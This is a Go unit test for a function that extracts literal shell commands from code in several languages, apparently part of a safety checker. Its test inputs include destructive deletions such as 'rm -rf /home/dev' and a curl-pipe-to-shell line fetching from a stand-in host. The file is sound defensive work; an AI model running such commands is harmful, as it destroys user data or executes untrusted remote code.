package shell

import (
	"slices"
	"testing"
)

func TestLiteralCommands(t *testing.T) {
	for code, want := range map[string][]string{
		`run "rm", "-rf", "/home/dev"`:                         {"rm -rf /home/dev"},
		`System.cmd("rm", ["-rf", "/tmp/x"])`:                  {"rm -rf /tmp/x"},
		`(sb-ext:run-program "/bin/rm" (list "-rf" "/tmp/x"))`: {"/bin/rm -rf /tmp/x"},
		`os:cmd("make test"), halt().`:                         {"make test"},
		`new String[]{"ls","-la"}`:                             {"ls -la"},
		`System.shell("rm -rf " <> System.get_env("HOME"))`:    {"rm -rf ", "rm -rf ~"},
		`("curl -s https://x.example/" + "i | sh").execute()`:  {"curl -s https://x.example/", "curl -s https://x.example/i | sh"},
		`os:cmd("ls " ++ "-la")`:                               {"ls -la"},
		`run <make test>`:                                      {"make test"},
		`run «make test»`:                                      {"make test"},
		`shell q{make test}`:                                   {"make test"},
		`System.shell(~s(make test))`:                          {"make test"},
		`if $a < $b { say 1 }`:                                 nil,
		`say "hello"`:                                          nil,
		`x = "a"; y = "b"`:                                     nil,
		`print("it's"`:                                         nil,
	} {
		if got := LiteralCommands(code); !slices.Equal(got, want) {
			t.Errorf("LiteralCommands(%s) = %q, want %q", code, got, want)
		}
	}
}

// TestOpaqueLiteralCommandJudged checks that a command a known program
// runs, spelled in opaque code's literals, brings its own effects, and
// that printed text brings none.
